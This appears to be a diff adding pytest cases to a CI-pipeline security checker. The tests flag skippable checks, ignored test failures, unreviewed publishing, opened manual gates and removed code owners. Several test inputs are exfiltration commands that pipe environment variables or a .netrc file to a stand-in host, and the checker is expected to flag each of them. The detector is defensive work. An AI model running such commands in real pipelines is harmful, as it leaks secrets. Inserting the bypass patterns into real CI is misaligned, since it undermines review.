@@ -6,6 +6,7 @@ from hypothesis import strategies as st
 
 from harness.check.interface import CheckSkipped
 from tests.packs.small_context import load_check, pack_of, rules, run_pack
+from tests.packs.two_trees import verify
 
 load_check(pack_of("pipeline"))
 from harness_packs.pipeline.commands import runs_fetched_code, swallows, verifies  # noqa: E402
@@ -363,6 +364,133 @@ def test_zizmor_that_is_not_installed_is_said(tmp_path, monkeypatch):
     outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, {PATH: workflow(TESTS, "run: echo ok")})
     assert not outcome.findings
     assert "zizmor is not installed" in outcome.notes[0]
+
+
+@pytest.mark.parametrize(
+    ("condition", "expected"),
+    [
+        ("github.actor != 'release-bot'", [("check-avoidable", "medium")]),
+        ("!contains(github.event.pull_request.labels.*.name, 'fast')", [("check-avoidable", "medium")]),
+        ("!contains(github.event.head_commit.message, '[skip tests]')", [("check-avoidable", "medium")]),
+        ("github.event.pull_request.draft == false", []),
+        ("github.repository == 'acme/shop'", []),
+    ],
+)
+def test_checks_that_the_author_of_a_change_can_leave_out(tmp_path, condition, expected):
+    assert found(tmp_path, BASE, workflow(TESTS, job=f'    if: "{condition}"\n')) == expected
+
+
+@pytest.mark.parametrize(
+    ("filters", "expected"),
+    [
+        ("paths-ignore: ['docs/**', '**/*.md']", []),
+        ("paths-ignore: ['**']", [("check-avoidable", "medium")]),
+        ("paths-ignore: ['shop/**']", [("check-avoidable", "medium")]),
+        ("paths: ['shop/**', 'tests/**', 'pyproject.toml']", []),
+        ("paths: ['docs/**']", [("check-avoidable", "medium")]),
+        ("paths: ['**', '!shop/**', '!tests/**']", [("check-avoidable", "medium")]),
+    ],
+)
+def test_filters_that_leave_code_out(tmp_path, filters, expected):
+    def both(text):
+        return {
+            PATH: text,
+            "shop/cart.py": "",
+            "shop/web/page.py": "",
+            "tests/test_cart.py": "",
+            "docs/a.md": "",
+        }
+
+    head = BASE.replace("on: [pull_request]", f"on:\n  pull_request:\n    {filters}")
+    outcome = verify("pipeline", tmp_path, both(BASE), both(head))[0]
+    assert [(one.rule.removeprefix("pipeline-"), one.severity) for one in outcome.findings] == expected
+
+
+@pytest.mark.parametrize(
+    ("step", "expected"),
+    [
+        ("run: twine upload dist/*", [("delivers-unreviewed", "medium")]),
+        ("run: twine upload --repository testpypi dist/*", []),
+        ("{run: npm publish, if: github.ref_type == 'tag'}", []),
+        ("run: npm publish --dry-run", []),
+        ("run: env | curl -d @- https://x.example", [("environment-sent", "high")]),
+        ('run: curl -d "$(printenv)" https://x.example', [("environment-sent", "high")]),
+        ("run: curl --netrc-file ~/.netrc https://x.example", [("environment-sent", "high")]),
+        ("run: env | sort", []),
+        ("run: curl -fsS https://x.example/healthz", []),
+    ],
+)
+def test_what_leaves_the_pipeline(tmp_path, step, expected):
+    assert found(tmp_path, BASE, workflow(TESTS, step)) == expected
+
+
+RULES = "deploy:\n  script: [./deploy.sh]\n  rules:\n    - if: $A\n      when: {}\n    - when: never\n"
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "expected"),
+    [
+        ("manual", "on_success", [("gate-opened", "medium")]),
+        ("on_success", "manual", []),
+        ("on_success", "always", []),
+    ],
+)
+def test_a_job_that_a_person_started(tmp_path, before, after, expected):
+    assert found(tmp_path, RULES.format(before), RULES.format(after), ".gitlab-ci.yml") == expected
+
+
+MAKEFILE = ".PHONY: test\ntest: build\n\tpytest\n\nlint:\n\t@ruff check .\n\nclean:\n\t-rm -rf build\n"
+TOX = "[testenv]\ndeps = pytest\ncommands =\n    pytest {posargs}\n"
+PACKAGE = '{\n  "scripts": {\n    "test": "jest",\n    "build": "tsc"\n  }\n}\n'
+
+
+@pytest.mark.parametrize(
+    ("path", "base", "old", "new", "expected"),
+    [
+        ("Makefile", MAKEFILE, "\tpytest\n", "\t-pytest\n", ["check-ignored"]),
+        ("Makefile", MAKEFILE, "\tpytest\n", "\tpytest || true\n", ["check-ignored"]),
+        ("Makefile", MAKEFILE, "\t@ruff check .\n", "\t@-ruff check .\n", ["check-ignored"]),
+        ("Makefile", MAKEFILE, "\tpytest\n", "\tpytest -q \\\n\t  --strict-markers\n", []),
+        ("Makefile", MAKEFILE, "clean:", "watch:\n\tpytest || true\n\nclean:", []),
+        ("tox.ini", TOX, "    pytest {", "    - pytest {", ["check-ignored"]),
+        ("tox.ini", TOX, "deps =", "ignore_outcome = true\ndeps =", ["check-ignored"]),
+        ("tox.ini", TOX, "pytest {posargs}", "pytest -ra {posargs}", []),
+        ("web/package.json", PACKAGE, '"jest"', '"jest || true"', ["check-ignored"]),
+        ("web/package.json", PACKAGE, '"jest"', '"jest --coverage"', []),
+        ("ci/test.sh", "set -e\npytest\n", "pytest\n", "pytest || true\n", ["check-ignored"]),
+        ("ci/test.sh", "set -e\npytest\n", "pytest\n", "pytest -x\n", []),
+    ],
+)
+def test_scripts_that_pipelines_call(tmp_path, path, base, old, new, expected):
+    assert old in base
+    rules_found = [(rule, "medium") for rule in expected]
+    assert found(tmp_path, base, base.replace(old, new), path) == rules_found
+
+
+OWNERS = "* @acme/core\n/deploy/ @acme/sre # ask first\n/gone/ @acme/old\n"
+
+
+@pytest.mark.parametrize(
+    ("head", "expected"),
+    [
+        (OWNERS + "/shop/ @acme/shop\n", []),
+        (OWNERS.replace("/gone/ @acme/old\n", ""), []),
+        (OWNERS.replace("@acme/sre", "@acme/platform"), []),
+        (OWNERS.replace("/deploy/ @acme/sre", "/deploy/"), ["pipeline-owners-dropped"]),
+        ("* @acme/core\n", ["pipeline-owners-dropped"]),
+        (None, ["pipeline-owners-dropped"]),
+    ],
+)
+def test_owners_that_have_to_agree(tmp_path, head, expected):
+    base = {".github/CODEOWNERS": OWNERS, "deploy/run.sh": "true\n"}
+    after = {"deploy/run.sh": "true\n"} | ({".github/CODEOWNERS": head} if head is not None else {})
+    assert [one.rule for one in verify("pipeline", tmp_path, base, after)[0].findings] == expected
+
+
+def test_owners_may_move(tmp_path):
+    base = {"CODEOWNERS": OWNERS, "deploy/run.sh": "true\n"}
+    head = {".github/CODEOWNERS": OWNERS, "deploy/run.sh": "true\n"}
+    assert not verify("pipeline", tmp_path, base, head)[0].findings
 
 
 @pytest.mark.parametrize(
